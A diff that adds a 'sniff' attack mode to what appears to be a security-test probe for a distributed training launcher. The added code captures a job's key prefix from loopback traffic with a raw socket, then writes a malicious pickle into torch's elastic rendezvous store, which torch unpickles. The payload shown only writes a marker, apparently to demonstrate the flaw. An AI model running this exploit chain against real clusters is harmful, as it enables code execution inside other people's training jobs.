@@ -7,6 +7,9 @@ The payloads it sends write MARKER when unpickled.
 Modes:
   cmdline PID   compute the secret an elastic job without FLEETLIKE_JOB_SECRET once derived from
                 its flags (read from the launcher's command line) and join its rendezvous
+  sniff HOST:PORT RUN_ID
+                read the job's key prefix off the loopback (a raw socket), then write a pickle
+                where torch's elastic rendezvous keeps its state for RUN_ID (torch unpickles it)
 """
 
 import hashlib
@@ -40,6 +43,28 @@ def flags_of(pid: int) -> dict:
     return {a.split("=", 1)[0]: a.split("=", 1)[1] for a in argv if a.startswith("--") and "=" in a}
 
 
+def sniff(seconds: float) -> str:
+    """The first ``fleetlike/<32 hex>/`` key prefix seen on the loopback within ``seconds``."""
+    import re
+    import socket
+    import time
+
+    pattern = re.compile(rb"fleetlike/[0-9a-f]{32}/")
+    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.ntohs(0x0003))
+    sock.bind(("lo", 0))
+    sock.settimeout(0.5)
+    deadline = time.monotonic() + seconds
+    while time.monotonic() < deadline:
+        try:
+            frame = sock.recv(65536)
+        except socket.timeout:
+            continue
+        found = pattern.search(frame)
+        if found:
+            return found.group().decode()
+    raise RuntimeError(f"no key prefix seen on lo within {seconds:g}s")
+
+
 def main() -> None:
     mode, out, marker, *rest = sys.argv[1:]
     report: dict = {}
@@ -64,6 +89,20 @@ def main() -> None:
             return 1
 
         attempt(report, "join", join)
+    elif mode == "sniff":
+        endpoint, run_id = rest
+        prefix = sniff(20.0)
+        report["prefix"] = prefix
+        import base64
+        import datetime
+        import pickle
+
+        import torch.distributed as dist
+
+        host, port = endpoint.rsplit(":", 1)
+        raw = dist.TCPStore(host, int(port), None, False, datetime.timedelta(seconds=10))
+        state = base64.b64encode(pickle.dumps(Payload(marker))).decode()
+        attempt(report, "plant state", lambda: raw.set(f"{prefix}/torch.rendezvous.{run_id}", state) or "set")
     with open(out, "w") as fh:
         json.dump(report, fh)
 
